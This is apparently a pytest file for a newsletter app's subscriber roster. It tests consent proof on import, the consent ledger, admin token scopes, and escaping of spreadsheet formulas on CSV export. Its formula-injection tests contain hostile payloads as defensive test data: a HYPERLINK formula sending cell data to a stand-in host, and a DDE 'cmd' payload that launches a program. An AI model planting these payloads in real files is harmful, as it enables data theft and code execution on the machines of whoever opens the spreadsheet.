"""The roster's rules on every path (CLI, admin upload): proof of consent for citizens, no
silent reactivation, one ledger entry per person, and CSV cells a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner

from newsletter import csvsafe
from newsletter.api.models import ApiToken
from newsletter.audit import Actor
from newsletter.delivery.models import DeliveryKind, DeliveryStatus
from newsletter.extensions import db
from newsletter.subscriptions import roster
from newsletter.subscriptions import service as subscriptions
from newsletter.subscriptions.models import (
    ConsentAction,
    ConsentEvent,
    Subscriber,
    SubscriberStatus,
)
from tests.fixtures.admin import FAST_HASHING, csrf_token
from tests.fixtures.subscriptions import outbox, subscriber_by_email

HEADER = "email,role,municipality,topics,frequency,locale,name,consent_at,consent_source\n"
ROWS = (
    "sindaco@comune.crema.cr.it,mayor,Crema,welfare,weekly,it,Sindaco,,\n"
    "maria@example.org,citizen,Crema,welfare;energy,daily,it,Maria,"
    "2023-05-02T18:30:00+02:00,modulo cartaceo Festa del Borgo\n"
    "luca@example.org,citizen,Offanengo,mobility,weekly,en,Luca,,\n"
)


@pytest.fixture
def app_overrides() -> dict[str, Any]:
    return dict(FAST_HASHING)


def _status(email: str) -> SubscriberStatus:
    found = subscriber_by_email(email)
    assert found is not None
    return found.status


def _events(email: str) -> list[ConsentEvent]:
    found = subscriber_by_email(email)
    assert found is not None
    return list(
        db.session.scalars(
            sa.select(ConsentEvent)
            .where(ConsentEvent.subscriber_id == found.id)
            .order_by(ConsentEvent.id)
        )
    )


def test_citizens_need_proof_of_consent_to_be_active(app: Flask) -> None:
    report = roster.import_roster(HEADER + ROWS, actor=Actor("cli:ops"))
    assert (report.created, report.pending) == (3, 1)
    assert _status("sindaco@comune.crema.cr.it") is SubscriberStatus.ACTIVE
    assert _status("maria@example.org") is SubscriberStatus.ACTIVE
    assert _status("luca@example.org") is SubscriberStatus.PENDING
    # Luca gets the double opt-in mail through the outbox, the others nothing.
    confirmations = outbox(DeliveryKind.CONFIRM)
    luca = subscriber_by_email("luca@example.org")
    assert luca is not None
    assert [d.subscriber_id for d in confirmations] == [luca.id]
    assert confirmations[0].status is DeliveryStatus.QUEUED
    # One ledger entry per person, naming the operator and the evidence.
    [maria_event] = _events("maria@example.org")
    assert (maria_event.action, maria_event.actor, maria_event.channel) == (
        ConsentAction.IMPORT,
        "cli:ops",
        "cli",
    )
    assert maria_event.details is not None
    assert maria_event.details["consent_source"] == "modulo cartaceo Festa del Borgo"
    assert maria_event.details["consent_at"] == "2023-05-02T16:30:00+00:00"
    [luca_event] = _events("luca@example.org")
    assert luca_event.details is not None
    assert luca_event.details["status"] == "pending"
    assert db.session.scalar(sa.select(sa.func.count()).select_from(ConsentEvent)) == 3


def test_a_pending_web_sign_up_is_not_made_active_by_an_import(app: Flask) -> None:
    subscriptions.subscribe(
        subscriptions.SubscribeRequest(
            email="luca@example.org",
            topics=("mobility",),
            frequency=subscriptions.Frequency.WEEKLY,
            locale="it",
        )
    )
    roster.import_roster(HEADER + ROWS, actor=Actor("cli:ops"))
    assert _status("luca@example.org") is SubscriberStatus.PENDING


def test_importing_again_supersedes_the_queued_confirmation(app: Flask) -> None:
    roster.import_roster(HEADER + ROWS, actor=Actor("cli:ops"))
    roster.import_roster(HEADER + ROWS, actor=Actor("cli:ops"))
    luca = subscriber_by_email("luca@example.org")
    assert luca is not None
    statuses = [d.status for d in outbox(DeliveryKind.CONFIRM, luca.id)]
    assert statuses == [DeliveryStatus.CANCELLED, DeliveryStatus.QUEUED]
    assert len(_events("luca@example.org")) == 2  # one ledger entry per person per import


def test_departed_addresses_are_left_alone_unless_reactivate(
    app: Flask, runner: FlaskCliRunner, tmp_path: Path
) -> None:
    roster.import_roster(HEADER + ROWS, actor=Actor("cli:ops"))
    for email in ("sindaco@comune.crema.cr.it", "maria@example.org"):
        found = subscriber_by_email(email)
        assert found is not None
        subscriptions.unsubscribe(found.id)
    path = tmp_path / "roster.csv"
    path.write_text(HEADER + ROWS, encoding="utf-8")

    result = runner.invoke(args=["subscribers", "import", str(path)])
    assert result.exit_code == 0, result.output
    assert "left 2 unsubscribed" in result.output
    assert _status("sindaco@comune.crema.cr.it") is SubscriberStatus.UNSUBSCRIBED
    assert _status("maria@example.org") is SubscriberStatus.UNSUBSCRIBED

    result = runner.invoke(args=["subscribers", "import", str(path), "--reactivate"])
    assert result.exit_code == 0, result.output
    assert "reactivated 2" in result.output
    assert _status("sindaco@comune.crema.cr.it") is SubscriberStatus.ACTIVE
    assert _status("maria@example.org") is SubscriberStatus.ACTIVE
    last = _events("maria@example.org")[-1]
    assert last.details is not None
    assert last.details["reactivated_from"] == "unsubscribed"
    assert last.actor is not None
    assert last.actor.startswith("cli:")


def test_a_bad_consent_row_rejects_the_file_with_its_line(app: Flask) -> None:
    bad = HEADER + ROWS + "anna@example.org,citizen,Crema,welfare,weekly,it,,ieri,modulo\n"
    with pytest.raises(roster.ValidationError, match=r"^line 5: consent_at"):
        roster.import_roster(bad, actor=Actor("cli:ops"))
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Subscriber)) == 0
    half = HEADER + "anna@example.org,citizen,Crema,welfare,weekly,it,,,modulo\n"
    with pytest.raises(roster.ValidationError, match=r"^line 2: consent_at"):
        roster.import_roster(half, actor=Actor("cli:ops"))


# --- CSV formula injection (issue 12 item 4) ----------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"x")',
    "+39 0373 1234",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTab",
    "'già tra apici",
    "''=doppio",
    "Normale",
]


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@x", "\tx", "\rx", "'x", "'=x", "x", ""])
def test_escape_round_trips(value: str) -> None:
    escaped = csvsafe.escape(value)
    assert not escaped.startswith(csvsafe.TRIGGERS)
    assert csvsafe.unescape(escaped) == value


def test_export_neutralises_formulas_and_imports_back_the_same_values(
    app: Flask, runner: FlaskCliRunner, tmp_path: Path
) -> None:
    rows = "".join(
        f"=cell{i}@example.org,mayor,Crema,welfare,weekly,it,,,\n" for i in range(len(HOSTILE))
    )
    roster.import_roster(HEADER + rows, actor=Actor("cli:ops"))
    # Names as the API or the preference centre could have stored them.
    for subscriber, name in zip(
        db.session.scalars(sa.select(Subscriber).order_by(Subscriber.email)), HOSTILE, strict=True
    ):
        subscriber.name = name
    db.session.commit()

    result = runner.invoke(args=["subscribers", "export"])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.output)) for cell in row]
    assert not [c for c in cells if c.startswith(csvsafe.TRIGGERS)]
    assert '\'=HYPERLINK("http://evil.test/?"&A1,"x")' in cells

    # Import the export: every value comes back as it was, nothing new.
    path = tmp_path / "export.csv"
    path.write_text(result.output, encoding="utf-8")
    before = {
        s.email: (s.name, s.role, s.locale, s.topic_slugs)
        for s in db.session.scalars(sa.select(Subscriber))
    }
    again = runner.invoke(args=["subscribers", "import", str(path)])
    assert again.exit_code == 0, again.output
    assert f"created 0, updated {len(HOSTILE)}" in again.output
    db.session.expire_all()
    after = {
        s.email: (s.name, s.role, s.locale, s.topic_slugs)
        for s in db.session.scalars(sa.select(Subscriber))
    }
    assert after == before
    assert sorted(name for name, *_ in after.values()) == sorted(HOSTILE)
    assert all(email.startswith("=cell") for email in after)


# --- admin: token scopes and the roster upload --------------------------------------------


def test_admin_creates_a_token_with_scopes_and_lists_them(admin_client: FlaskClient) -> None:
    page = admin_client.get("/admin/tokens").get_data(as_text=True)
    assert 'name="scopes" value="subscribers"' in page
    token = csrf_token(page)
    created = admin_client.post(
        "/admin/tokens",
        data={"csrf_token": token, "name": "Anagrafe", "scopes": ["subscribers"]},
    )
    assert created.status_code == 200
    assert db.session.scalar(sa.select(ApiToken.scopes).where(ApiToken.name == "Anagrafe")) == (
        "subscribers"
    )
    default = admin_client.post("/admin/tokens", data={"csrf_token": token, "name": "CMS"})
    assert default.status_code == 200
    assert db.session.scalar(sa.select(ApiToken.scopes).where(ApiToken.name == "CMS")) == (
        "articles"
    )
    listing = admin_client.get("/admin/tokens").get_data(as_text=True)
    row = listing.split(">Anagrafe<")[1].split("</tr>")[0]
    assert "<code>subscribers</code>" in row
    assert "<code>articles</code>" not in row


def test_admin_roster_upload_keeps_citizens_pending_and_exports_safely(
    admin_client: FlaskClient,
) -> None:
    token = csrf_token(admin_client.get("/admin/roster").get_data(as_text=True))
    done = admin_client.post(
        "/admin/roster/import",
        data={
            "csrf_token": token,
            "mode": "commit",
            "file": (BytesIO((HEADER + ROWS).encode()), "roster.csv"),
        },
        content_type="multipart/form-data",
    )
    assert done.status_code == 302
    assert _status("luca@example.org") is SubscriberStatus.PENDING
    assert [e.channel for e in _events("luca@example.org")] == ["admin"]
    found = subscriber_by_email("luca@example.org")
    assert found is not None
    found.name = "=cmd|' /C calc'!A0"
    db.session.commit()
    body = admin_client.get("/admin/roster/export.csv").get_data(as_text=True)
    assert "'=cmd|' /C calc'!A0" in body
    assert ",=cmd" not in body
